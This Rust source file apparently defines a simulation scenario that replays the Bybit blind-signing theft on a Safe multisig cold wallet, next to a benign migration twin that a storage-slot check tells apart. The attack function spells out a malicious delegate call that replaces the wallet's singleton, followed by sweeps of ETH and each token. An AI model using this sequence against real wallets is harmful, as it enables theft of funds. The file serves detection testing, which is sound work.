//! Signers who see one thing and sign another: Bybit (February 2025).

use anyhow::{Result, ensure};
use facts::{Address, U256};

use super::super::{
    cast::rich,
    declare::slot_holds,
    props::{give, held, parts, token, units},
    safe::{Safe, SafeRelease, SafeTx, packed},
};
use crate::{Scenario, Stage, args, call_data, ether};

pub(super) const CHANGED_SINGLETON: Scenario = Scenario {
    id: "key/blind-signing/changed-singleton",
    about: "signers of a cold wallet approve what a page shows as a transfer; it is a delegate call that puts other code \
            behind the Safe, which then is swept, coins first and token by token",
    attack,
    twin,
};

const KIND: &str = "key/blind-signing";
const SIGNERS: [&str; 6] = ["signer one", "signer two", "signer three", "signer four", "signer five", "signer six"];

struct Cold {
    release: SafeRelease,
    safe: Safe,
    hot: Address,
    operator: Address,
    tokens: Vec<Address>,
}

fn cold_wallet(stage: &mut Stage<'_>) -> Result<Cold> {
    let operator = stage.actor("operator of the exchange");
    let hot = stage.stranger("hot wallet");
    let release = SafeRelease::deploy(stage)?;
    let safe = release.create(stage, &SIGNERS, 3)?;
    stage.protect(safe.at, "cold wallet");
    let bank = rich(stage, "bank of the exchange", 4_000_000);
    let coins = stage.amount(ether(401_347));
    stage.transfer(bank, safe.at, coins);
    let mut tokens = Vec::new();
    for (symbol, whole) in [("STETH", 90_376), ("CMETH", 15_000), ("METH", 8_000)] {
        let token = token(stage, operator, symbol, 18)?;
        let amount = stage.amount(units(whole, 18));
        give(stage, operator, token, safe.at, amount);
        tokens.push(token);
    }
    stage.pass(2)?;
    // Warm-ups of the hot wallet, as every week.
    for (tx, signers) in [
        (SafeTx::pay(hot, stage.amount(ether(8_000))), &SIGNERS[..3]),
        (SafeTx::call(tokens[0], transfer(hot, stage.amount(units(1_500, 18)))), &SIGNERS[1..4]),
        (SafeTx::pay(hot, stage.amount(ether(12_500))), &SIGNERS[3..]),
    ] {
        safe.exec(stage, operator, &tx, signers)?;
        stage.pass(2)?;
    }
    Ok(Cold { release, safe, hot, operator, tokens })
}

fn transfer(to: Address, amount: U256) -> facts::Bytes {
    call_data("transfer(address,uint256)", args![to, amount])
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let Cold { release, safe, tokens, .. } = cold_wallet(stage)?;
    slot_holds(stage, "singleton-is-known", KIND, safe.at, "0", &[release.singleton]);
    let thief = super::super::props::out_of_a_mixer(stage, "thief", 2)?;
    let payee = stage.payee(thief);
    let (trojan, backdoor) = stage.preparing(|stage| {
        Ok((stage.deploy(thief, "SafeTrojan", args![])?, stage.deploy(thief, "SafeBackdoor", args![])?))
    })?;
    stage.pass(2)?;
    stage.wait(3 * 86_400);
    stage.pass(1)?;
    // The page shows a warm-up of the hot wallet. What is signed is this.
    let shown = SafeTx::delegate(trojan, transfer(backdoor, U256::ZERO));
    let done = stage.attack(|stage| safe.exec(stage, thief, &shown, &SIGNERS[..3]))?;
    stage.between_parts()?;
    ensure!(stage.succeeded(done) == Some(true), "the signers' transaction failed");
    let mut wanted = vec![None];
    wanted.extend(tokens.iter().copied().map(Some));
    for part in parts(stage, wanted) {
        stage.attack(|stage| {
            for token in part {
                match token {
                    None => stage.strike(thief, safe.at, U256::ZERO, "sweepETH(address)", args![payee])?,
                    Some(token) => {
                        stage.strike(thief, safe.at, U256::ZERO, "sweepERC20(address,address)", args![token, payee])?
                    }
                };
            }
            Ok(())
        })?;
        stage.between_parts()?;
    }
    ensure!(stage.balance(safe.at)?.is_zero(), "coins are left");
    for token in tokens {
        ensure!(held(stage, token, safe.at)?.is_zero(), "tokens are left");
    }
    Ok(())
}

fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let Cold { release, safe, hot, operator, tokens } = cold_wallet(stage)?;
    let maker = stage.actor("makers of Safe");
    let next = stage.deploy(maker, "SafeNext", args![])?;
    let migration = stage.deploy(maker, "SafeMigration", args![next])?;
    slot_holds(stage, "singleton-is-known", KIND, safe.at, "0", &[release.singleton, next]);
    stage.wait(3 * 86_400);
    stage.pass(2)?;
    // The Safe gets the code of the next release, by a delegate call; then a run on the exchange: nearly everything is
    // needed in the hot wallet, in batches that are delegate calls too.
    let migrate = SafeTx::delegate(migration, call_data("migrateSingleton()", args![]));
    safe.exec(stage, operator, &migrate, &SIGNERS[..3])?;
    stage.between_parts()?;
    let mut needed = vec![SafeTx::pay(hot, stage.balance(safe.at)? * U256::from(19) / U256::from(20))];
    for token in &tokens {
        needed.push(SafeTx::call(*token, transfer(hot, held(stage, *token, safe.at)?)));
    }
    for part in parts(stage, needed) {
        let batch = SafeTx::delegate(release.multisend, packed(&part));
        safe.exec(stage, operator, &batch, &SIGNERS[2..5])?;
        stage.between_parts()?;
    }
    ensure!(stage.balance(hot)? > stage.amount(ether(380_000)), "the hot wallet did not get its coins");
    for token in tokens {
        ensure!(held(stage, token, safe.at)?.is_zero(), "tokens are left");
    }
    Ok(())
}
